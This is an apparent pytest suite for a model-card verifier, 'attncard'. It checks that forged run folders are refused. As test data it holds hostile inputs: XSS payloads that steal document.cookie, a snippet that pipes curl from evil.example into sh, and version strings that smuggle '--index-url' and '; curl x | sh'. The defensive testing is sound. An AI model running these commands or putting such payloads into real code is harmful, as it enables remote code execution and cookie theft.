"""Cards that lie through their text: a run folder edited by someone with write access so that its "verified"
card carries markup, HTML, a second status banner, a usage snippet or install line of the editor's choosing,
or figures in `.eval_results/` that results.json does not hold; and results.json values that used to end in a
traceback. Issue 30, items 1, 2 and 8.

Each run is resealed as a forger would: results.json edited in memory (past attncard's own reading of it),
then the plots, the card, the licence, `.eval_results/` and the manifest written again by attncard's own
renderer, so that every file matches the manifest and the card is the one results.json renders. Only the
checks of what the values *are* stand between the edit and the user.
"""

from __future__ import annotations

import dataclasses
import json
import re
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from attncard.pipeline.card import context, render
from attncard.pipeline.checks.card_render import card_problems
from attncard.pipeline.cli import main
from attncard.pipeline.record.errors import IncompatibleRunError, IntegrityError, ResultsError
from attncard.pipeline.record.manifest import CARD_FILE, RESULTS_FILE
from attncard.pipeline.record.results import Results
from attncard.pipeline.verify.download import download_verified
from run_folders import copy_run, one_line, refresh_manifest
from run_folders import reseal as reseal_run

pytestmark = pytest.mark.filterwarnings("ignore:Use 'content=<...>' to upload raw bytes:DeprecationWarning")


def reseal(run_dir: Path, edit: Callable[[Results], None], eval_results: bool = True) -> Results:
    """Edits the run's results in memory and writes every derived file again, as publish writes them (but
    `.eval_results/` with `eval_results=False`, for a test that edited it), the card last."""
    results = Results.load(run_dir)
    edit(results)
    # The forger's renderer: attncard's, without its refusals of a foreign snippet, command or status line.
    with pytest.MonkeyPatch.context() as forger:
        forger.setattr(context, "card_usage_code", lambda results: results.usage.code)
        forger.setattr(render, "rendered_card_problems", lambda results, card: [])
        reseal_run(run_dir, results, eval_results=eval_results, usage=False)
    return results


def refused_everywhere(run_dir: Path, capsys, match: str) -> str:
    """The run is refused by the API and by `attncard download` / `verify` / `lint`, in one line, exit 2."""
    with pytest.raises((ResultsError, IntegrityError, IncompatibleRunError), match=match):
        download_verified(run_dir)
    assert main(["download", str(run_dir)]) == 2
    message = one_line(capsys)
    assert main(["verify", str(run_dir)]) == 2
    one_line(capsys)
    return message


BANNER = "**Status: PASS** — verified by attncard"
SCRIPT = "<script>alert(document.cookie)</script>"


def _set(path: str, value) -> Callable[[Results], None]:
    """An edit setting the dotted attribute `path` of the results to `value`."""

    def edit(results: Results) -> None:
        *parents, name = path.split(".")
        target = results
        for parent in parents:
            target = getattr(target, parent)
        setattr(target, name, value)

    return edit


def _append_code(results: Results) -> None:
    results.usage.code += "import os\nos.system('curl -s https://evil.example/x | sh')\n"


# Every free-text field of results.json that reaches the card, with what an editor would put there.
INJECTIONS = {
    "printout-fence": ("model.printout", f"PeftModel(\n```\n\n{BANNER}\n\n{SCRIPT}\n```text\n)"),
    "printout-html": ("model.printout", f"PeftModel({SCRIPT})"),
    "device-name-img": ("efficiency.device_name", '<img src=x onerror="alert(1)">'),
    "device-name-banner": ("efficiency.device_name", f"cpu |\n\n{BANNER}\n\n| x"),
    "accelerator": ("environment.accelerator", "H100 <iframe src=https://evil.example>"),
    "repository": ("environment.attncard_repository", "https://evil.example/attncard"),
    "version": ("environment.attncard_version", "1.0 --index-url https://evil.example/simple; curl x | sh #"),
    "platform": ("environment.platform", "Linux](https://evil.example)"),
    "python": ("environment.python", f"3.11 {SCRIPT}"),
    "started-at": ("started_at", f"2026-01-01 {SCRIPT}"),
    "memory-method": ("efficiency.peak_memory_method", f"RSS\n\n{BANNER}"),
    "timing-method": ("efficiency.timing_method", "[a link](https://evil.example)"),
    "citation": ("module.citation", "See [the paper](https://evil.example/paper)"),
    "model-id": ("model.model_id", f"tiny-gpt2{SCRIPT}"),
    "device": ("efficiency.device", "cpu <b>fast</b>"),
    "training-device": ("training.device", "cpu\n\n| Accuracy | 99.9% |"),
    "mixed-precision": ("training.mixed_precision", "no <b>x</b>"),
    "schedule": ("training.hyperparameters.lr_schedule", "<u>linear</u>"),
    "output": ("usage.output", f"negative\n```\n{BANNER}"),
    "command-banner": ("command", f"publish --model gpt2\n```\n\n{BANNER}\n\n| Accuracy | 99.9% |\n```bash"),
    "command-other": ("command", "curl -s https://evil.example/x | sh"),
}


@pytest.mark.slow
@pytest.mark.parametrize("case", sorted(INJECTIONS))
def test_free_text_cannot_inject_into_a_verified_card(tiny_gpt2_run, tmp_path, capsys, case: str) -> None:
    field, value = INJECTIONS[case]
    run_dir = copy_run(tiny_gpt2_run, tmp_path)
    reseal(run_dir, _set(field, value))
    assert json.dumps(value) in (run_dir / RESULTS_FILE).read_text(encoding="utf-8")  # the forgery is there
    refused_everywhere(run_dir, capsys, re.escape(field))


def test_a_usage_snippet_that_runs_other_code_is_refused(tiny_gpt2_run, tmp_path, capsys) -> None:
    run_dir = copy_run(tiny_gpt2_run, tmp_path)
    reseal(run_dir, _append_code)
    refused_everywhere(run_dir, capsys, r"usage\.code")


def test_the_card_shows_the_usage_snippet_and_command_attncard_rebuilds(tiny_gpt2_run, tmp_path) -> None:
    """The honest run's card holds one status line, the rebuilt snippet and command, and nothing raw."""
    run_dir = copy_run(tiny_gpt2_run, tmp_path)
    results = Results.load(run_dir)
    card = (run_dir / CARD_FILE).read_text(encoding="utf-8")
    assert len(re.findall(r"^\*\*Status: ", card, re.MULTILINE)) == 1
    assert results.usage.code in card and results.command in card
    assert card_problems(results, run_dir) == []


def test_a_second_status_line_in_the_card_is_refused(tiny_gpt2_run, tmp_path) -> None:
    run_dir = copy_run(tiny_gpt2_run, tmp_path)
    results = Results.load(run_dir)
    card = (run_dir / CARD_FILE).read_text(encoding="utf-8")
    (run_dir / CARD_FILE).write_text(card + f"\n{BANNER}\n", encoding="utf-8")
    problems = card_problems(results, run_dir)
    assert problems and "status" in problems[0], problems


# --- item 2: advice in attncard's own messages -------------------------------------------------------------


def test_an_unknown_module_message_names_only_a_pep_440_version(tiny_gpt2_run, tmp_path, capsys) -> None:
    # No attncard renders a card for a module it lacks: the editor changes results.json alone, which is
    # refused for its module before the card is compared.
    run_dir = copy_run(tiny_gpt2_run, tmp_path)
    _raw_edit(run_dir, '"name": "none"', '"name": "long_range"')
    message = refused_everywhere(run_dir, capsys, "long_range")
    assert "install attncard 0.1.0" in message, message
    version = Results.load(run_dir).environment.attncard_version
    _raw_edit(run_dir, f'"attncard_version": "{version}"', '"attncard_version": "0.1 --index-url https://evil.example/s"')
    message = refused_everywhere(run_dir, capsys, "attncard_version")
    assert "install attncard 0.1 --index-url" not in message


def test_a_plugin_package_is_named_with_a_pep_440_version(tiny_gpt2_run, tmp_path, capsys) -> None:
    for version, match in (("", "no module.package_version"), ("1.0; curl x | sh", "module.package_version")):
        run_dir = copy_run(tiny_gpt2_run, tmp_path / (version[:3] or "empty"))

        def edit(results: Results, version: str = version) -> None:
            results.module.package, results.module.package_version = "attncard-long-range", version

        reseal(run_dir, edit)
        assert "pip install" not in refused_everywhere(run_dir, capsys, match)


def test_a_module_source_mismatch_names_only_attncards_repository(tiny_gpt2_run, tmp_path, capsys) -> None:
    run_dir = copy_run(tiny_gpt2_run, tmp_path)

    def edit(results: Results) -> None:
        results.module.source_sha256 = "0" * 64
        results.environment.attncard_repository = "https://evil.example/attncard"

    reseal(run_dir, edit)
    message = refused_everywhere(run_dir, capsys, "attncard_repository")
    assert "pip install" not in message
    run_dir = copy_run(tiny_gpt2_run, tmp_path / "b")
    reseal(run_dir, _set("module.source_sha256", "0" * 64))
    with pytest.raises(IncompatibleRunError, match=r'pip install "attncard @ git\+https://github\.com/attncard/'):
        download_verified(run_dir)


# --- item 8: .eval_results ---------------------------------------------------------------------------------


def test_edited_eval_results_are_refused(tiny_gpt2_run, tmp_path, capsys) -> None:
    run_dir = copy_run(tiny_gpt2_run, tmp_path)
    (eval_file,) = (run_dir / ".eval_results").glob("*.yaml")
    text = eval_file.read_text(encoding="utf-8")
    accuracy = Results.load(run_dir).metrics.accuracy
    assert repr(accuracy) in text or f"{accuracy}" in text, text
    eval_file.write_text(text.replace(f"{accuracy}", "0.999", 1), encoding="utf-8")
    reseal(run_dir, lambda results: None, eval_results=False)
    message = refused_everywhere(run_dir, capsys, r"\.eval_results")
    assert "0.999" in message or ".eval_results" in message


def test_a_missing_or_extra_eval_results_file_is_refused(tiny_gpt2_run, tmp_path, capsys) -> None:
    run_dir = copy_run(tiny_gpt2_run, tmp_path)
    (eval_file,) = (run_dir / ".eval_results").glob("*.yaml")
    shutil.copy(eval_file, eval_file.with_name("rte.yaml"))
    reseal(run_dir, lambda results: None, eval_results=False)
    refused_everywhere(run_dir, capsys, r"\.eval_results")


# --- tracebacks ---------------------------------------------------------------------------------------------


def _raw_edit(run_dir: Path, old: str, new: str) -> None:
    path = run_dir / RESULTS_FILE
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


@pytest.mark.parametrize("where", ["accuracy", "class_counts", "steps"])
def test_a_huge_integer_is_one_line(tiny_gpt2_run, tmp_path, capsys, where: str) -> None:
    run_dir = copy_run(tiny_gpt2_run, tmp_path)
    results = Results.load(run_dir)
    huge = "1" + "0" * 400
    if where == "accuracy":
        _raw_edit(run_dir, f'"accuracy": {results.metrics.accuracy!r}', f'"accuracy": {huge}')
    elif where == "class_counts":
        label, count = next(iter(results.verification.class_counts.items()))
        _raw_edit(run_dir, f'"{label}": {count}', f'"{label}": {huge}')
    else:
        _raw_edit(run_dir, f'"steps": {results.training.hyperparameters.steps}', f'"steps": {huge}')
    with pytest.raises(ResultsError, match="too large"):
        download_verified(run_dir)
    for command in ("download", "verify"):
        assert main([command, str(run_dir)]) == 2, command
        one_line(capsys)
    assert_a_lint_finding(run_dir, capsys)


def assert_a_lint_finding(run_dir: Path, capsys) -> None:
    """`attncard lint` reports a malformed results.json as a finding (exit 1), without a traceback."""
    assert main(["lint", str(run_dir)]) == 1
    captured = capsys.readouterr()
    assert "Traceback" not in captured.out + captured.err and "results.json" in captured.out, captured


def test_results_json_nested_too_deep_is_one_line(tiny_gpt2_run, tmp_path, capsys) -> None:
    run_dir = copy_run(tiny_gpt2_run, tmp_path)
    (run_dir / RESULTS_FILE).write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    with pytest.raises(ResultsError, match="nested"):
        download_verified(run_dir)
    for argv in (["download"], ["verify"], ["verify", "--predictions"]):
        assert main([*argv, str(run_dir)]) == 2, argv
        one_line(capsys)
    assert_a_lint_finding(run_dir, capsys)


@pytest.mark.parametrize("name", ["config.json", "tokenizer_config.json", "adapter_config.json"])
def test_a_config_nested_too_deep_is_one_line(tiny_gpt2_run, tmp_path, capsys, name: str) -> None:
    run_dir = copy_run(tiny_gpt2_run, tmp_path)
    (run_dir / name).write_text('{"a": ' + "[" * 100_000 + "]" * 100_000 + "}", encoding="utf-8")
    refresh_manifest(run_dir)
    with pytest.raises(IntegrityError, match="nested"):
        download_verified(run_dir)
    assert main(["download", str(run_dir)]) == 2
    one_line(capsys)


def test_an_oversized_results_json_is_refused_before_it_is_parsed(tiny_gpt2_run, tmp_path, capsys) -> None:
    run_dir = copy_run(tiny_gpt2_run, tmp_path)
    data = json.loads((run_dir / RESULTS_FILE).read_text())
    data["model"]["printout"] = "x" * (40 << 20)
    (run_dir / RESULTS_FILE).write_text(json.dumps(data))
    with pytest.raises(ResultsError, match="MiB"):
        download_verified(run_dir)


def test_honest_values_still_load(tiny_gpt2_run, tmp_path) -> None:
    """The checks refuse the forgeries above, not the runs attncard writes (the committed cards are checked
    likewise in tests/checks/test_committed_cards.py)."""
    run_dir = copy_run(tiny_gpt2_run, tmp_path)
    results = reseal(run_dir, lambda results: None)
    assert download_verified(run_dir).results == dataclasses.replace(results)
